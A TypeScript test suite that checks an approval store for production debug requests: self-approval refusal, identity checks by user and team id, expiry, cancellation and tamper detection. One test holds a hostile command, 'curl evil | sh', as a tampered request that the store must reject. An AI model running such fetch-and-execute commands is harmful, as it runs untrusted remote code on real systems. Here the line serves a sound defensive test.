import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { NewApproval, UserRef } from '../../../src/core/approval-model.js';
import type { ApprovalStore, DedupeClaims, TransitionCommand } from '../../../src/core/approval-ports.js';
import { digestRequest } from '../../../src/core/derive-ids.js';
import type { DebugRequest } from '../../../src/core/model.js';
import { aDebugRequest } from '../../helpers/builders.js';

/** What a contract run needs from a store under test, including ways to break it like Redis can. */
export interface StoreHarness {
  store: ApprovalStore & DedupeClaims;
  deleteRecord(approvalId: string): Promise<void>;
  setStoredRequest(approvalId: string, request: DebugRequest): Promise<void>;
  close(): Promise<void>;
}

export const T0 = new Date('2026-11-29T12:00:00.000Z');
export const TEAM = 'T0TEAM';
export const REQUESTER: UserRef = { userId: 'U0REQ', teamId: TEAM };
export const ALICE: UserRef = { userId: 'U0ALICE', teamId: TEAM };
export const BOB: UserRef = { userId: 'U0BOB', teamId: TEAM };
export const CAROL: UserRef = { userId: 'U0CAROL', teamId: TEAM };
const MINUTES_15 = 15 * 60_000;

let counter = 0;

/** A new approval for a fresh request id (ids are unique per call, so tests never collide). */
export function aNewApproval(
  overrides: Partial<NewApproval> = {},
  request?: Partial<DebugRequest>,
): NewApproval {
  const req = aDebugRequest({
    id: `rappr${++counter}x${Math.random().toString(36).slice(2, 8)}`,
    ...request,
  });
  return {
    id: req.id,
    request: req,
    digest: digestRequest(req),
    cluster: 'prod-eu',
    reason: 'checkout 500s',
    productionReasons: ['namespace shop matches "shop"'],
    approvers: { users: ['U0ALICE'], groups: ['S0SRE'] },
    approvalsRequired: 1,
    createdAt: T0.toISOString(),
    expiresAt: new Date(T0.getTime() + MINUTES_15).toISOString(),
    ...overrides,
  };
}

export function at(minutes: number): Date {
  return new Date(T0.getTime() + minutes * 60_000);
}

/** Runs the ApprovalStore contract (see approval-ports.ts) against one implementation. */
export function describeApprovalStoreContract(name: string, makeHarness: () => Promise<StoreHarness>): void {
  describe(`ApprovalStore contract: ${name}`, () => {
    let h: StoreHarness;
    beforeEach(async () => {
      h = await makeHarness();
    });
    afterEach(async () => {
      await h.close();
    });

    async function created(overrides: Partial<NewApproval> = {}, approvers: UserRef[] = [ALICE, BOB, CAROL]) {
      const approval = aNewApproval(overrides);
      expect(await h.store.create(approval, approvers)).toEqual({ created: true });
      return approval;
    }
    function approve(
      a: NewApproval,
      actor: UserRef,
      now = at(1),
      expected = { digest: a.digest, request: a.request },
    ) {
      return h.store.transition({ kind: 'approve', approvalId: a.id, actor, now, expected });
    }
    function deny(a: NewApproval, actor: UserRef, now = at(1)) {
      return h.store.transition({
        kind: 'deny',
        approvalId: a.id,
        actor,
        now,
        expected: { digest: a.digest, request: a.request },
      });
    }

    it('stores a pending approval with its request snapshot and reads it back', async () => {
      const a = await created();
      const stored = await h.store.get(a.id);
      expect(stored).toEqual({ ...a, state: 'pending', approvals: [] });
      expect(await h.store.get('rnothere')).toBeUndefined();
    });

    it('is idempotent per id: a second create returns the first', async () => {
      const a = await created();
      const again = await h.store.create({ ...a, reason: 'other' }, [ALICE]);
      expect(again).toEqual({
        created: false,
        existing: expect.objectContaining({ id: a.id, reason: 'checkout 500s' }),
      });
    });

    it('approves with one approval, records who and when, and stays final', async () => {
      const a = await created();
      const result = await approve(a, ALICE);
      expect(result).toMatchObject({ outcome: 'approved', changed: true });
      expect(result.outcome !== 'not_found' && result.approval).toMatchObject({
        state: 'approved',
        decidedBy: ALICE,
        decidedAt: at(1).toISOString(),
        approvals: [{ by: ALICE, at: at(1).toISOString() }],
      });
      expect(await approve(a, BOB)).toMatchObject({
        outcome: 'already_decided',
        changed: false,
        approval: { state: 'approved', decidedBy: ALICE },
      });
      expect(await deny(a, BOB)).toMatchObject({
        outcome: 'already_decided',
        approval: { state: 'approved' },
      });
    });

    it('refuses the requester, even when listed as an approver', async () => {
      const a = await created({}, [REQUESTER, ALICE]);
      expect(await approve(a, REQUESTER)).toMatchObject({
        outcome: 'self',
        changed: false,
        approval: { state: 'pending' },
      });
      expect(await deny(a, REQUESTER)).toMatchObject({ outcome: 'self', approval: { state: 'pending' } });
    });

    it('refuses non-approvers by user id and team id, never by name', async () => {
      const a = await created({}, [ALICE]);
      const lookalike = { userId: 'U0MALLORY', teamId: TEAM, userName: 'alice' } as UserRef;
      const otherOrg = { userId: ALICE.userId, teamId: 'T0OTHER' };
      expect(await approve(a, lookalike)).toMatchObject({ outcome: 'not_approver', changed: false });
      expect(await approve(a, otherOrg)).toMatchObject({ outcome: 'not_approver', changed: false });
      expect(await deny(a, otherOrg)).toMatchObject({ outcome: 'not_approver' });
      expect((await h.store.get(a.id))?.state).toBe('pending');
    });

    it('denies finally', async () => {
      const a = await created();
      expect(await deny(a, BOB)).toMatchObject({
        outcome: 'denied',
        changed: true,
        approval: { state: 'denied', decidedBy: BOB },
      });
      expect(await approve(a, ALICE)).toMatchObject({
        outcome: 'already_decided',
        approval: { state: 'denied', decidedBy: BOB },
      });
    });

    it('accumulates distinct approvers until approvalsRequired is met', async () => {
      const a = await created({ approvalsRequired: 2 });
      expect(await approve(a, ALICE, at(1))).toMatchObject({
        outcome: 'approval_recorded',
        changed: true,
        approval: { state: 'pending' },
      });
      expect(await approve(a, ALICE, at(2))).toMatchObject({
        outcome: 'already_approved_by_you',
        changed: false,
      });
      const done = await approve(a, BOB, at(3));
      expect(done).toMatchObject({ outcome: 'approved', approval: { state: 'approved', decidedBy: BOB } });
      expect(done.outcome !== 'not_found' && done.approval.approvals.map((x) => x.by)).toEqual([ALICE, BOB]);
    });

    it('lets one deny end a partly approved request', async () => {
      const a = await created({ approvalsRequired: 2 });
      await approve(a, ALICE);
      expect(await deny(a, BOB, at(2))).toMatchObject({ outcome: 'denied', approval: { state: 'denied' } });
      expect(await approve(a, CAROL, at(3))).toMatchObject({ outcome: 'already_decided' });
    });

    it('expires lazily on the first action at or after expiry, then answers already decided', async () => {
      const a = await created();
      expect(await approve(a, ALICE, at(15))).toMatchObject({
        outcome: 'expired',
        changed: true,
        approval: { state: 'expired' },
      });
      expect(await approve(a, ALICE, at(16))).toMatchObject({
        outcome: 'already_decided',
        changed: false,
        approval: { state: 'expired' },
      });
      const stored = await h.store.get(a.id);
      expect(stored?.decidedBy).toBeUndefined();
    });

    it('expire commands close only due, pending approvals, and findExpired lists them soonest first', async () => {
      const soon = await created({ expiresAt: at(5).toISOString() });
      const later = await created({ expiresAt: at(10).toISOString() });
      const approved = await created({ expiresAt: at(5).toISOString() });
      await approve(approved, ALICE);
      expect(await h.store.findExpired(at(4), 10)).not.toContain(soon.id);
      const due = await h.store.findExpired(at(10), 100);
      expect(due.filter((id) => [soon.id, later.id, approved.id].includes(id))).toEqual([soon.id, later.id]);
      expect(await h.store.transition({ kind: 'expire', approvalId: later.id, now: at(6) })).toMatchObject({
        outcome: 'not_due',
      });
      expect(await h.store.transition({ kind: 'expire', approvalId: soon.id, now: at(6) })).toMatchObject({
        outcome: 'expired',
        changed: true,
      });
      expect(await h.store.transition({ kind: 'expire', approvalId: soon.id, now: at(6) })).toMatchObject({
        outcome: 'already_decided',
        changed: false,
      });
      expect(await h.store.findExpired(at(6), 100)).not.toContain(soon.id);
    });

    it('lets only the requester cancel', async () => {
      const a = await created();
      const cancel = (actor: UserRef): Promise<unknown> =>
        h.store.transition({
          kind: 'cancel',
          approvalId: a.id,
          actor,
          now: at(1),
        } satisfies TransitionCommand);
      expect(await cancel(ALICE)).toMatchObject({ outcome: 'not_requester' });
      expect(await cancel({ ...REQUESTER, teamId: 'T0OTHER' })).toMatchObject({ outcome: 'not_requester' });
      expect(await cancel(REQUESTER)).toMatchObject({
        outcome: 'cancelled',
        changed: true,
        approval: { state: 'cancelled', decidedBy: REQUESTER },
      });
    });

    it('refuses when the stored digest or request differs from what the approver saw', async () => {
      const a = await created();
      expect(await approve(a, ALICE, at(1), { digest: 'f'.repeat(64), request: a.request })).toMatchObject({
        outcome: 'digest_mismatch',
      });
      const changed = { ...a.request, commands: [['sh', '-c', 'curl evil | sh']] };
      expect(await approve(a, ALICE, at(1), { digest: a.digest, request: changed })).toMatchObject({
        outcome: 'digest_mismatch',
      });
      await h.setStoredRequest(a.id, changed);
      expect(await approve(a, ALICE)).toMatchObject({
        outcome: 'digest_mismatch',
        approval: { state: 'pending' },
      });
      expect(await deny(a, ALICE)).toMatchObject({ outcome: 'digest_mismatch' });
    });

    it('answers not_found for unknown ids and lost records', async () => {
      const a = await created();
      expect(
        await h.store.transition({
          kind: 'approve',
          approvalId: 'rmissing',
          actor: ALICE,
          now: at(1),
          expected: { digest: a.digest, request: a.request },
        }),
      ).toEqual({ outcome: 'not_found' });
      await h.deleteRecord(a.id);
      expect(await approve(a, ALICE)).toEqual({ outcome: 'not_found' });
      expect(await h.store.get(a.id)).toBeUndefined();
    });

    it('tracks approved requests until they are marked enqueued', async () => {
      const a = await created();
      await approve(a, ALICE, at(1));
      expect(await h.store.findUnqueued(at(0.5), 100)).not.toContain(a.id);
      expect(await h.store.findUnqueued(at(1), 100)).toContain(a.id);
      await h.store.markEnqueued(a.id, at(2));
      expect(await h.store.findUnqueued(at(10), 100)).not.toContain(a.id);
      expect((await h.store.get(a.id))?.enqueuedAt).toBe(at(2).toISOString());
    });

    it('remembers the card, and never creates a record by attaching to a missing one', async () => {
      const a = await created();
      await h.store.attachCard(a.id, { channelId: 'C0INCIDENT', messageTs: '1700000000.000100' });
      expect((await h.store.get(a.id))?.card).toEqual({
        channelId: 'C0INCIDENT',
        messageTs: '1700000000.000100',
      });
      await h.store.attachCard('rnotthere', { channelId: 'C0INCIDENT', messageTs: '1' });
      await h.store.markEnqueued('rnotthere', at(1));
      expect(await h.store.get('rnotthere')).toBeUndefined();
    });

    it('claims dedupe keys: the first request id holds the key until its TTL ends', async () => {
      const key = `k${Math.random().toString(36).slice(2)}`;
      expect(await h.store.claim(key, 'rfirst', 150)).toBe('rfirst');
      expect(await h.store.claim(key, 'rsecond', 150)).toBe('rfirst');
      await new Promise((resolve) => setTimeout(resolve, 250));
      expect(await h.store.claim(key, 'rthird', 150)).toBe('rthird');
    });
  });
}
